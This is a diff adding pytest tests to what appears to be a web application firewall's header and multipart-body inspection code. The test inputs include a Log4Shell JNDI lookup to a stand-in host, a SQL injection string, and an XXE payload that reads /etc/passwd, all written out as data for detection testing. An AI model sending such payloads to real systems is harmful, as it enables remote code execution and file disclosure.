@@ -177,3 +177,29 @@ def test_an_unencoded_ampersand_inside_a_query_value_is_also_inspected_whole() -
     assert ("args", "query:b", "2") in got
     plain = request_head_values(req("/x?a=1&b=2&c"), ZoneOptions())
     assert [v.raw for v in plain if v.zone == "args"] == ["1", "2", "2&c"]  # a bare flag joins its neighbour
+
+
+def test_credentials_are_inspected_unless_they_are_a_plain_token() -> None:
+    jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
+    for plain in (f"Bearer {jwt}", "Basic dXNlcjpwYXNz", "sk_live_51HxYz", "Bearer ya29.a0Af/b+c=="):
+        got = labels(request_head_values(req("/", [("Authorization", plain)]), ZoneOptions()))
+        assert not any(lbl == "header:authorization" for _, lbl, _ in got)  # nothing an injection needs
+    for value in ("Bearer ${jndi:ldap://evil.example/a}", "Basic ' OR 1=1--", 'Digest username="x", uri="/a"'):
+        got = labels(request_head_values(req("/", [("Authorization", value)]), ZoneOptions()))
+        assert ("headers", "header:authorization", value) in got
+
+
+def test_uploaded_xml_documents_are_read_as_a_body() -> None:
+    svg = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
+    for ctype, name in ((b"image/svg+xml", b"logo.svg"), (b"application/octet-stream", b"feed.bin")):
+        body = (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name + b"\"\r\n"
+                b"Content-Type: " + ctype + b"\r\n\r\n" + svg + b"\r\n--XyZ--\r\n")
+        got = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")],
+                                             body=body), ZoneOptions()))
+        assert ("body", "multipart:file", svg.decode()) in got  # the DOCTYPE reaches the XXE rules
+        assert not any(z == "args" and "ENTITY" in raw for z, _, raw in got)  # file bytes are still no args
+    png = (b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n"
+           b"Content-Type: image/png\r\n\r\n\x89PNG\r\n--XyZ--\r\n")
+    got = labels(request_body_values(req(headers=[("Content-Type", "multipart/form-data; boundary=XyZ")], body=png),
+                                     ZoneOptions()))
+    assert not any(z == "body" for z, _, _ in got)
